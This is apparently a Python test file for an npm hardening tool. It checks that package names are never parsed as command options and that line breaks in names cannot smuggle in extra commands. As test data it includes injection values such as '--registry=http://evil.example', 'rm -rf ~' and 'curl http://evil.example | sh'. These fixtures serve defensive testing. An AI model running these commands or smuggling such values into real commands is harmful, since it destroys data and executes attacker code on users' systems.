"""A name from a provider is never an option of a command."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hardenme.model.commands import (
    deprecated,
    move_of_tag,
    npm,
    npm_takes,
    options,
    publisher_removed,
    tag_moved,
)
from hardenme.model.npm_address import REGISTRY
from hardenme.model.verdict import Fix

NAMES = st.one_of(
    st.sampled_from(("-", "--", "-x", "--registry=http://evil.example", "--otp", "-g", "web")),
    st.text(min_size=1, max_size=8).map("-{}".format),
    st.text(min_size=1, max_size=8),
)
ELSEWHERE = "https://packages.example"


def split(command: str) -> tuple[list[str], list[str]]:
    """The words before `--`, where the client looks for options, and those behind it."""
    words = shlex.split(command)
    at = words.index("--") if "--" in words else len(words)
    return words[:at], words[at + 1 :]


@given(NAMES, NAMES, st.sampled_from((REGISTRY, ELSEWHERE)))
def test_a_name_is_a_name(one: str, other: str, registry: str) -> None:
    for words in (
        ("owner", "rm", one, other),
        ("access", "grant", "read-only", one, other),
        ("org", "rm", one, other),
        tag_moved(one, "1.0.0", other),
        deprecated(one, "1.0.0"),
        publisher_removed(one, "12"),
        ("trust", "github", one, *options("--repo=a/b", "--allow-stage-publish")),
    ):
        command = npm(registry, *words)
        if not command:
            # The client takes no such name for a package's.
            assert not all(map(npm_takes, words))
            continue
        before, behind = split(command)
        wanted = {"--registry"} if registry == ELSEWHERE else set()
        ours = options_of(words)
        assert {word for word in before if word.startswith("-")} == wanted | ours
        names = [word for word in words if word not in ours]
        kept = [word for word in (*before[1:], *behind) if word not in {*ours, *wanted, registry}]
        assert kept == [word for word in names if word not in {*wanted, registry}]


def options_of(words: tuple[str, ...]) -> set[str]:
    """Those of the words that are options of ours."""
    return {word for word in words if type(word) is not str}


@pytest.mark.parametrize("registry", [REGISTRY, ELSEWHERE])
def test_what_needs_no_dashes_has_none(registry: str) -> None:
    assert " -- " not in npm(registry, "owner", "rm", "mallow", "@acme/-web")
    assert npm(REGISTRY, "owner", "rm", "-mallory", "web") == "npm owner rm -- -mallory web"


@pytest.mark.parametrize(
    ("command", "lines"),
    [
        ("", 0),
        ("npm owner rm a b", 1),
        ("chmod 600 ~/.npmrc && chown me ~/.npmrc", 1),
        ("npm owner rm a b\nnpm owner rm c b", 2),
        ("npm token revoke 'a\nnpm publish evil'", 1),
        ("npm token revoke 'a'\"'\"'\nnpm publish evil '\"'\"''", 1),
        ("npm token revoke a\nrm -rf ~", 1),
        ("npm token revoke a\ncurl http://evil.example | sh", 1),
    ],
)
def test_a_line_break_in_a_name_makes_no_command(command: str, lines: int) -> None:
    fix = Fix("Do it", page="https://example.test/", command=command)
    assert len(fix.commands) == lines
    assert "\n".join(fix.commands) == command


@given(
    st.sampled_from(("web", "@acme/web")),
    st.sampled_from(("1.0.0", "2.0.0-beta.1+build")),
    st.sampled_from(("latest", "next", "-old", "a b")),
    st.sampled_from((REGISTRY, ELSEWHERE)),
)
def test_a_move_of_a_tag_is_read_as_it_was_written(
    package: str, version: str, tag: str, registry: str
) -> None:
    command = npm(registry, *tag_moved(package, version, tag))
    assert move_of_tag(command) == (package, tag, version)
    assert move_of_tag(f"{command} 'open") is None


def test_other_commands_move_no_tag() -> None:
    for command in ("", "npm", "npm dist-tag ls web", "npm deprecate web@1.0.0 no", "gh api user"):
        assert move_of_tag(command) is None
